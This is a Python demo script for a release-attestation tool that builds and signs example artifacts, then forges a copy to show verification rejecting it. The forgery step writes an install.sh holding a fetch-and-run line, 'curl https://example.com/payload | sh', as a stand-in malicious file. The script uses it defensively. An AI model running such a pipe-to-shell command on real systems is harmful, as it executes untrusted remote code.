"""The tour behind `make demo`: build the example release, judge it, then watch three forgeries being refused.

It needs no account and no network service: the modules come from a folder, the key is made here. Every path
is the same each time, below the folder given with --out.
"""

from __future__ import annotations

import argparse
import json
import os
import shlex
import shutil
import subprocess
import sys
import time
from pathlib import Path

import build

REPOSITORY = Path(__file__).resolve().parent.parent.parent
ATTEST = Path(sys.executable).with_name("attest.exe" if os.name == "nt" else "attest")
WIDTH = 76


def shown(path: Path) -> str:
    """A path as the reader would type it from the repository."""
    try:
        return path.relative_to(REPOSITORY).as_posix()
    except ValueError:
        return str(path)


def say(text: str = "") -> None:
    """Print a line at once, so that it stands before what the next command prints."""
    print(text, flush=True)


def title(text: str) -> None:
    """Print a heading."""
    say(f"\n=== {text}")


def attest(*arguments: str | Path, expect: int) -> None:
    """Show an attest command, run it, and stop the tour where it does not end as it should."""
    words = [shown(each) if isinstance(each, Path) else each for each in arguments]
    lines, line = [], f"$ {shown(ATTEST)}"
    for word in map(shlex.quote, words):
        if len(line) + len(word) > WIDTH:
            lines.append(line + " \\")
            line = "   "
        line += f" {word}"
    say("\n".join([*lines, line]))
    run = subprocess.run([ATTEST, *words], cwd=REPOSITORY, check=False)
    say(f"(exit code {run.returncode})")
    if run.returncode != expect:
        sys.exit(f"demo: expected exit code {expect}: this is a fault of attest, please report it")


#: What `forge` does, the check that must see it, and in which file.
FORGERIES = (
    ("one byte changed", "signature-missing", "widget_1.0.0_linux_amd64"),
    ("an artifact gone", "artifact-missing", "widget_1.0.0_windows_amd64.exe"),
    ("a file added", "artifact-unexpected", "install.sh"),
)


def forge(dist: Path, copy: Path) -> None:
    """Copy the release and change three things in the copy."""
    shutil.rmtree(copy, ignore_errors=True)
    shutil.copytree(dist, copy)
    changed = copy / "widget_1.0.0_linux_amd64"
    data = bytearray(changed.read_bytes())
    data[len(data) // 2] ^= 1
    changed.write_bytes(data)
    (copy / "widget_1.0.0_windows_amd64.exe").unlink()
    (copy / "install.sh").write_text("curl https://example.com/payload | sh\n", encoding="utf-8")


def main() -> None:
    """Run the tour."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--out", type=Path, default=REPOSITORY / "build" / "demo")
    out = parser.parse_args().out.resolve()

    title("1. Build: two commands, eight platforms, ten artifacts, from one source")
    start = time.monotonic()
    try:
        layout = build.build(out, gocache=REPOSITORY / "build" / "gocache")
    except build.BuildError as error:
        sys.exit(f"demo: {error}")
    say(f"built (or found as built before) in {time.monotonic() - start:.1f} s")

    policy, key = out / "policy" / "release.yaml", out / "key" / "release.key"
    policy.parent.mkdir(parents=True, exist_ok=True)
    for name in ("release.yaml", "release.tests.yaml"):
        shutil.copy(REPOSITORY / "testdata" / "widget" / name, policy.with_name(name))

    title("2. A signing key of our own; the policy trusts its public half alone")
    if key.exists():
        say(f"kept from the last run: {shown(key)}")
    else:
        key.parent.mkdir(parents=True, exist_ok=True)
        attest("key", "generate", "--private-key", key, "--public-key", key.with_suffix(".pub"), expect=0)
    (policy.parent / "keys").mkdir(exist_ok=True)
    shutil.copy(key.with_suffix(".pub"), policy.parent / "keys" / "release.pub")

    title("3. One run over the release: check, SBOMs, signatures, verdict")
    verdict = out / "verdict.json"
    release: list[str | Path] = [
        "release",
        "--source",
        layout.source,
        "--dist",
        layout.dist,
        "--policy",
        policy,
    ]
    attest(
        *release, "--version", "1.0.0", "--key", key, "-o", "text", "-o", f"json={shown(verdict)}", expect=0
    )

    title("4. A forged copy: one byte changed, one artifact gone, one file added")
    forged = out / "forged"
    forge(layout.dist, forged)
    refused = out / "forged.json"
    verify: list[str | Path] = ["verify", "--policy", policy, "--source", layout.source, "--version", "1.0.0"]
    attest(*verify, "-o", "text", "-o", f"json={shown(refused)}", forged, expect=1)
    findings = json.loads(refused.read_text("utf-8"))["findings"]
    say("\nThe three forgeries, and what gave each away (the rest follows from them):")
    for did, check, subject in FORGERIES:
        found = next(
            (each for each in findings if (each["check"], each["subject"]) == (check, subject)), None
        )
        if found is None:
            sys.exit(f"demo: no {check} for {subject}: this is a fault of attest, please report it")
        say(f"  {did:<20} {check:<20} {subject}")

    title("What lies where")
    for what, where in (
        ("SOURCE", layout.source),
        ("DIST", layout.dist),
        ("POLICY", policy),
        ("KEY", key),
        ("verdict", verdict),
        ("forged", forged),
    ):
        say(f"  {what:<8} {shown(where)}")
    sample = "widget_1.0.0_linux_amd64"
    say("  beside each artifact, for instance:")
    for suffix, meaning in (
        (".cdx.json", "SBOM, CycloneDX 1.6"),
        (".spdx.json", "SBOM, SPDX 2.3"),
        (".sigstore.json", "its signature"),
        (".spdx.intoto.sigstore.json", "signed SBOM"),
    ):
        say(f"    {sample + suffix:<51} {meaning}")
    say("\nNext: read testdata/widget/release.yaml, the policy that decided all this.")


if __name__ == "__main__":
    main()
